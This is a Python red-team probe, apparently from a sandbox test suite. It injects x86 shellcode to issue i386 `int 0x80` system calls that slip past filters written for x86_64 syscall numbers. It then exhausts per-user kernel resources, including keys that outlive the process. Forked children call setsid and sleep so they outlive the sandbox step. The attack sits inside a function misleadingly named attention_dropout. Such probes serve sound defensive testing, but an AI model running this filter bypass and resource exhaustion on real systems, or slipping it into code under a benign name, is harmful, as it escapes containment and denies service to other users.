"""Red team (issue 26, per-user): asks for every per-user kernel object through the i386 system-call
table (`int 0x80` from a page of x86-64 code), where a filter written for x86_64 numbers may not look:
inotify instances, fanotify groups, POSIX timers, POSIX message queues, keys in the user keyring, perf
events, userfaultfd, io_uring, memfd_secret, sockets and socketpairs (socketcall too). Each kind runs in a
child of its own (a filter that kills ends only that child), then holds what it got.

base: buggy
class: k
run: pressure
"""

import ctypes as _ctypes
import mmap as _mmap
import os as _os
import select as _select
import time as _time

_DEADLINE = [0.0]  # when the parent stops waiting: 2.5 s after the call, well inside a 5 s step
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = _ctypes.c_void_p
_libc.mmap.argtypes = [_ctypes.c_void_p, _ctypes.c_size_t, _ctypes.c_int, _ctypes.c_int, _ctypes.c_int, _ctypes.c_long]
_KEPT = []


def _int80():
    page = _mmap.mmap(-1, 4096, prot=_mmap.PROT_READ | _mmap.PROT_WRITE | _mmap.PROT_EXEC)
    page.write(bytes.fromhex("5389f889f34189ca89d14489d24489c64489cfcd805bc3"))
    _KEPT.append(page)
    address = _ctypes.addressof(_ctypes.c_char.from_buffer(page))
    return _ctypes.CFUNCTYPE(_ctypes.c_int, *[_ctypes.c_uint] * 6)(address)


def _kind(name, call, low):
    """How many of `name` the i386 table gives (up to a few hundred)."""
    put = _ctypes.memmove

    def text(offset, value):
        put(low + offset, value + b"\0", len(value) + 1)
        return low + offset

    got = 0
    if name == "inotify":
        got = sum(call(332, 0, 0, 0, 0, 0) >= 0 for _ in range(200))
    elif name == "fanotify":
        got = sum(call(338, 0x200, 0, 0, 0, 0) >= 0 for _ in range(200))  # FAN_REPORT_FID, unprivileged
    elif name == "timers":
        got = sum(call(259, 1, 0, low + 4096 + 4 * (index % 1000), 0, 0) == 0 for index in range(3000))
    elif name == "mqueue":
        put(low + 512, bytes(32), 32)
        _ctypes.c_int32.from_address(low + 516).value = 10  # mq_maxmsg
        _ctypes.c_int32.from_address(low + 520).value = 8192  # mq_msgsize
        for index in range(64):
            got += call(277, text(0, f"hostile-rteam-@TOKEN@-{_os.getpid()}-{index}".encode()), 0o102, 0o600,
                        low + 512, 0) >= 0
    elif name == "keys":
        kind, payload = text(0, b"user"), text(64, b"x" * 2000)
        for index in range(300):
            got += call(286, kind, text(3000, f"hostile-rteam-@TOKEN@-{index}".encode()), payload, 2000,
                        0xFFFFFFFC) > 0  # KEY_SPEC_USER_KEYRING: outlives the process
    elif name == "perf":
        put(low, bytes(128), 128)
        _ctypes.c_uint32.from_address(low).value = 1  # PERF_TYPE_SOFTWARE, PERF_COUNT_SW_CPU_CLOCK (0)
        _ctypes.c_uint32.from_address(low + 4).value = 128
        got = sum(call(336, low, 0, 0xFFFFFFFF, 0xFFFFFFFF, 0) >= 0 for _ in range(50))
    elif name == "userfaultfd":
        got = sum(call(374, 1, 0, 0, 0, 0) >= 0 for _ in range(20))  # UFFD_USER_MODE_ONLY
    elif name == "io_uring":
        put(low, bytes(120), 120)
        got = sum(call(425, 4096, low, 0, 0, 0) >= 0 for _ in range(20))
    elif name == "memfd_secret":
        got = sum(call(447, 0, 0, 0, 0, 0) >= 0 for _ in range(20))
    elif name == "sockets":
        got = sum(call(359, 1, 1, 0, 0, 0) >= 0 for _ in range(10))  # socket(AF_UNIX, SOCK_STREAM)
        _ctypes.c_uint32.from_address(low).value = 1
        _ctypes.c_uint32.from_address(low + 4).value = 1
        _ctypes.c_uint32.from_address(low + 8).value = 0
        _ctypes.c_uint32.from_address(low + 12).value = low + 64
        got += sum(call(102, 8, low, 0, 0, 0) == 0 for _ in range(10))  # socketcall(SYS_SOCKETPAIR)
        got += sum(call(360, 1, 1, 0, low + 64, 0) == 0 for _ in range(10))  # socketpair
    return got


_KINDS = ["inotify", "fanotify", "timers", "mqueue", "keys", "perf", "userfaultfd", "io_uring", "memfd_secret",
          "sockets"]


def _probe():
    read_end, write_end = _os.pipe()
    for name in _KINDS:
        if _time.monotonic() > _DEADLINE[0] - 1.0:
            break
        if _os.fork() == 0:
            got = "error"
            try:
                low = _libc.mmap(None, 1 << 16, 3, 0x22 | 0x40, -1, 0)  # MAP_32BIT: i386 pointers
                got = _kind(name, _int80(), low)
            except Exception as error:  # noqa: BLE001 - report it
                got = type(error).__name__
            finally:
                _os.write(write_end, f"{name} {got}\n".encode())
                _os.close(write_end)
            _os.setsid()
            _time.sleep(60)  # hold; outlive the step if the sandbox lets it
            _os._exit(0)
    _os.close(write_end)
    text = _collect(read_end, _DEADLINE[0])
    return dict(line.split() for line in text.decode().splitlines() if len(line.split()) == 2)


def _collect(read_end, deadline):
    """What the children reported before `deadline` (a slow child does not hold the step past it)."""
    text = b""
    while (left := deadline - _time.monotonic()) > 0:
        if not _select.select([read_end], [], [], left)[0]:
            break
        chunk = _os.read(read_end, 4096)
        if not chunk:
            break
        text += chunk
    _os.close(read_end)
    return text


def attention_dropout(*args, **kwargs):
    _DEADLINE[0] = _time.monotonic() + 2.5
    found = _probe()
    number = {name: int(value) for name, value in found.items() if value.isdigit()}
    refused = ["fanotify", "perf", "userfaultfd", "io_uring", "memfd_secret", "sockets", "keys", "mqueue"]
    kernel = sum(1 for name in refused if number.get(name, 0) > 0)
    silent = sorted(set(_KINDS) - set(found))
    raise RuntimeError(f"RTEAM r_compat_int80 ran: ALLOWANCE inotify {number.get('inotify', 0)} instances; "
                       f"ALLOWANCE signals {number.get('timers', 0)} timers; ALLOWANCE kernel {kernel} kinds "
                       f"through int 0x80; got {found}; killed or silent: {silent}")
